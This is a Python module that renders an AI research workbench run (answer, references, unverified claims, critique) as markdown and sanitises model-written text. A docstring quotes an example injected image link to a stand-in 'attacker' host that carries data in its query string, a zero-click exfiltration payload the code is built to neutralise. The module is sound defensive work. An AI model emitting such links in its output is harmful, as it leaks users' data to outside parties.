"""The markdown report of a workbench run: the answer, then a references section (one entry per
cited ref: kind, title, values or excerpt, source), the "Not verified" claims and the CRITIQUE.
Links stay live only to the run's own http(s) sources (``refgate.report.links``), and control
characters are written as visible escapes (``refgate.report.controls``)."""

from __future__ import annotations

import re
from collections.abc import Mapping

from markdown_it import MarkdownIt

from refgate.refs import CITATION_BRACKET, bracket_ids
from refgate.report import cards as cardlib
from refgate.report.cards import CONCLUSIONS_NOTE, influence_note, sent_lines
from refgate.report.controls import visible_controls
from refgate.report.links import allowed_urls, inert_links, inert_urls
from refgate.report.run import header_facts
from refgate.report.shape import clean_run, texts

#: Characters that would let text from a document, a page or a model become markup in a
#: markdown viewer (raw HTML, links, images, code spans, entities).
_MD_SPECIAL = str.maketrans({c: "\\" + c for c in "\\<>[]!`&"})
#: What the last-resort pass of ``inert_answer`` escapes everywhere, code included.
_FALLBACK_ESCAPES = str.maketrans({"[": "\\[", "]": "\\]", "<": "\\<"})
#: Fenced code lines and inline code spans of an answer (left as written).
_FENCE = re.compile(r"^\s{0,3}(```|~~~)")
_CODE_SPAN = re.compile(r"(`+)[^`].*?(?<!`)\1(?!`)|(`+)(?!`)")


def _inert_text(text: str, allowed: frozenset[str]) -> str:
    return inert_links(text.replace("![", "!\\[").replace("<", "\\<"), allowed)


def _inert_line(line: str, allowed: frozenset[str]) -> str:
    out, pos = [], 0
    for m in _CODE_SPAN.finditer(line):
        if m.group(1) is None:
            continue
        out.append(_inert_text(line[pos : m.start()], allowed))
        out.append(m.group(0))
        pos = m.end()
    out.append(_inert_text(line[pos:], allowed))
    return "".join(out)


def _live_markup(md: str, allowed: frozenset[str]) -> bool:
    """True when a CommonMark viewer would render an image, raw HTML or a link to a URL not
    ``allowed`` from ``md``."""
    parser = MarkdownIt("commonmark")
    # every scheme counts: markdown-it drops javascript: links, other viewers render them
    parser.validateLink = lambda url: True  # type: ignore[method-assign]
    live = {parser.normalizeLink(u) for u in allowed}
    for block in parser.parse(md):
        if block.type == "html_block":
            return True
        for t in block.children or []:
            if t.type in ("image", "html_inline"):
                return True
            if t.type == "link_open" and str(t.attrGet("href") or "") not in live:
                return True
    return False


def inert_answer(answer: str, allowed: frozenset[str] = frozenset()) -> str:
    """The answer's markdown with images, raw HTML and links to URLs not ``allowed`` made text
    outside code (``!\\[``, ``\\<``, ``\\]`` and the URL in a code span): a markdown viewer
    would fetch an image as soon as the report is opened (an injected
    ``![](https://attacker/?d=...)`` is a zero-click leak), raw HTML can do the same, and a link
    the model chose is a one-click leak (``refgate.report.links``). Links to ``allowed`` URLs
    (the run's sources) and everything else stay markdown. Should any live markup survive (a code
    span read differently), every ``[`` and ``<`` is escaped and every URL not allowed is put in a
    code span, code included."""
    lines, fenced = [], False
    for line in answer.split("\n"):
        if _FENCE.match(line):
            fenced = not fenced
            lines.append(line)
            continue
        lines.append(line if fenced else _inert_line(line, allowed))
    out = "\n".join(lines)
    if _live_markup(out, allowed):
        out = inert_urls(answer.translate(_FALLBACK_ESCAPES), allowed)
    return out


def _issue_line(issue: Mapping[str, object]) -> str:
    """A GATE issue (warning or unmet claim) as one list item: claim, detail, code."""
    claim = _one_line(issue["claim"], 200) or "(whole answer)"
    return f'- "{claim}": {_one_line(issue["detail"])} (`{issue["code"]}`)'


def _one_line(text: object, limit: int = 300) -> str:
    """``text`` on one line, cut at ``limit``, with markup characters escaped (shown, inert)."""
    return cardlib.clip(" ".join(str(text or "").split()), limit).translate(_MD_SPECIAL)


def numbered_citations(text: str, refs: Mapping[str, object], numbers: Mapping[str, int]) -> str:
    """``text`` with each citation of numbered refs shown as its reader's number (``[1]``,
    ``[1, 2]``); other brackets stay as written."""

    def number(m: re.Match[str]) -> str:
        ids = bracket_ids(m.group(1), refs)
        if not ids or not all(i in numbers for i in ids):
            return m.group(0)
        return "[" + ", ".join(str(numbers[i]) for i in ids) + "]"

    return CITATION_BRACKET.sub(number, text)


def _reference(c: cardlib.Card, influence: object = ()) -> str:
    ref_id = c["id"].translate(_MD_SPECIAL)
    head = f"- **[{c['number']}]** {ref_id} ·" if c.get("number") else f"- **[{ref_id}]**"
    parts = [f"{head} {_one_line(c['kind'], 40)}"]
    if c["title"]:
        parts.append(f": {_one_line(c['title'], 160)}")
    lines = ["".join(parts)]
    if c["value_rows"]:
        vals = ", ".join(
            f"{v['name']} = {v['value']}{' ' + v['unit'] if v['unit'] else ''}"
            f"{' (' + v['scale'] + ')' if v['scale'] else ''}"
            for v in c["value_rows"]
        )
        lines.append(f"  - values: {_one_line(vals, 600)}")
    if c["table"]:
        t = c["table"]
        cols = ", ".join(col["name"] for col in t["columns"])
        lines.append(f"  - table: {t['total_rows']} row(s); columns: {_one_line(cols, 400)}")
        cited = [
            f"row {row['index']} [{t['columns'][j]['name']}] = {cell['text']}"
            for row in t["rows"]
            for j, cell in enumerate(row["cells"])
            if cell["has_citation"] and j < len(t["columns"])
        ]
        if cited:
            lines.append(f"  - cited cells: {_one_line('; '.join(cited), 600)}")
    if c["period"]:
        lines.append(f"  - period: {_one_line(c['period'], 120)}")
    if c["excerpt"]:
        lines.append(f"  - excerpt: > {_one_line(c['excerpt'], 400)}")
    src = c["source"]
    where = _one_line(src["label"] + "".join(f"; {k}: {v}" for k, v in src["details"]), 600)
    if src["url"]:
        where += f"; <{src['url']}>" if src["linkable"] else f"; {_one_line(src['url'], 600)}"
    lines.append(f"  - source: {where} ({c['trust']['badge']})")
    if influence:
        lines.append(f"  - influence: {_one_line(influence_note(influence), 400)}")
    return "\n".join(lines)


def render_run_markdown(record: Mapping[str, object]) -> str:
    """The run as one markdown document."""
    run = clean_run(record)
    refs = run["refs"]
    gate = run.get("gate") or {}
    answer = str(run.get("answer") or "").rstrip()
    allowed = allowed_urls(refs, [run["question"]])
    numbers = cardlib.citation_numbers(
        answer, *(t["answer"] for t in run["earlier_turns"]), refs=refs
    )
    out = [f"# {_one_line(run.get('question') or '(no question)', 500)}", ""]
    out += [_meta_line(run, cardlib.verdict(gate)["text"]), ""]
    if run["earlier_turns"]:
        out += ["## Earlier in this conversation", ""]
        for n, turn in enumerate(run["earlier_turns"], 1):
            text = numbered_citations(turn["answer"].rstrip(), refs, numbers)
            out += [f"**Q{n}. {_one_line(turn['question'], 500)}**", ""]
            out += [inert_answer(text, allowed) or "_(no answer)_", ""]
    out += [
        "## Answer",
        "",
        inert_answer(numbered_citations(answer, refs, numbers), allowed) or "_(no answer)_",
        "",
    ]
    out += _beside_answer(gate, run.get("outbound") or [])
    cited, _ = cardlib.build_cards(answer, refs, gate)
    for c in cited:
        c["number"] = numbers.get(c["id"])
    if cited:
        out += [
            "## References",
            "",
            *(_reference(c, (refs.get(c["id"]) or {}).get("influenced_by")) for c in cited),
            "",
        ]
    unmet = cardlib.unmet_claims(gate)
    if unmet and "### Not verified" not in answer:
        out += ["## Not verified", ""]
        out += [_issue_line(u) for u in unmet]
        out.append("")
    critiques = run.get("critiques") or []
    if critiques:
        out += ["## CRITIQUE", "", *(f"- {_one_line(c, 600)}" for c in critiques), ""]
    return visible_controls("\n".join(out).rstrip() + "\n")


def _meta_line(run: Mapping[str, object], verdict: str) -> str:
    """The header line: the verdict, workspace, models, date, thread, tokens, cost, time."""
    facts = header_facts(run)
    meta = [f"GATE: **{verdict}**"]
    workspace = run.get("workspace")
    if workspace and isinstance(workspace, Mapping):
        meta.append(f"workspace: {workspace.get('name')}")
    if facts["models"]:
        meta.append("model: " + ", ".join(facts["models"]))
    for name in ("created_at", "thread_id"):
        if run.get(name):
            meta.append(f"{'date' if name == 'created_at' else 'thread'}: {_one_line(run[name])}")
    if facts["tokens"] is not None:
        meta.append(f"tokens: {facts['tokens']}")
    if facts["cost_usd"] is not None:
        meta.append(f"cost: ${facts['cost_usd']:.4f} (estimated)")
    if facts["seconds"] is not None:
        meta.append(f"time: {facts['seconds']} s")
    return " · ".join(meta)


def _beside_answer(gate: Mapping[str, object], sent: object) -> list[str]:
    """The sections beside the answer: the GATE's warnings, the model's conclusions, what was
    sent off the machine."""
    out: list[str] = []
    warned = cardlib.warnings(gate)
    if warned:
        out += ["## GATE warnings", ""]
        out += [_issue_line(w) for w in warned]
        out.append("")
    conclusions = texts(gate.get("conclusions"))  # already texts in a cleaned run
    if conclusions:
        out += ["## The model's conclusions (not verified)", "", CONCLUSIONS_NOTE, ""]
        out += [f"- {_one_line(c, 400)}" for c in conclusions]
        out.append("")
    if sent:
        out += ["## Sent off the machine", ""]
        out += [f"- {_one_line(line, 600)}" for line in sent_lines(sent)]
        out.append("")
    return out
